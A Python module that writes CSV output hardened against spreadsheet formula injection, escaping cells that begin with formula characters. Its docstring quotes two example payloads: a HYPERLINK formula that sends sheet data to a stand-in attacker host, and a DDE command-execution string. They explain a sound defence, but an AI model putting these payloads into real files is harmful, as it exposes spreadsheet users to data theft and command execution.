"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which
some spreadsheets skip before looking) is run as a formula when the file is
opened: an organisation called `=HYPERLINK("http://evil.example?"&A1, "Open")`
would exfiltrate the sheet. Every CSV the product writes goes through
`csv_text`, which prefixes such text cells with `'`: the spreadsheet shows
the text as it was typed, and runs nothing.

A spreadsheet may also split a cell where we did not: on `;` (the default in
many European locales), a tab or `|` in an import dialog, or a line break when
it ignores quotes. So a formula character after any such separator (and after
whatever spaces, control characters or quotes follow it) gets a `'` too, right
after the separator: `Bob;=cmd|' /C calc'!A0` is written `Bob;'=cmd|' /C calc'!A0`,
and whichever way the line is split, no piece starts a formula. Every cell is
quoted, so a spreadsheet that honours quotes sees our cells as they are.

Numbers are written as numbers: `-3.5` is a value, not a formula, and stays
one. Pure functions, no I/O.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Where a spreadsheet may start a cell of its own inside one of ours.
SEPARATORS = ",;\t|\r\n"
# What a spreadsheet may skip before it looks at a cell's first character.
_SKIPPED = r"[\s\x00-\x1f\x7f\"]*"
_FORMULA_AFTER_SEPARATOR = re.compile(f"([{re.escape(SEPARATORS)}])(?={_SKIPPED}[=+\\-@])")
_FORMULA_AT_START = re.compile(f"{_SKIPPED}[=+\\-@]|[\t\r]")

Cell = str | int | float | Decimal | date | datetime | bool | None


def safe_cell(value: Cell) -> str:
    """One cell as text, neutralised when it is text a spreadsheet would take for a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = _FORMULA_AFTER_SEPARATOR.sub(r"\1'", str(value))
    return "'" + text if _FORMULA_AT_START.match(text) else text


def safe_row(row: Iterable[Cell]) -> list[str]:
    return [safe_cell(value) for value in row]


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Cell]]) -> str:
    """A whole CSV document (header first, CRLF line ends as RFC 4180 says), every cell safe."""
    return csv_lines([safe_row(header), *(safe_row(row) for row in rows)])


def csv_lines(rows: Iterable[list[str]]) -> str:
    """Rows already made safe (`safe_row`) as CSV text, every cell quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerows(rows)
    return buffer.getvalue()
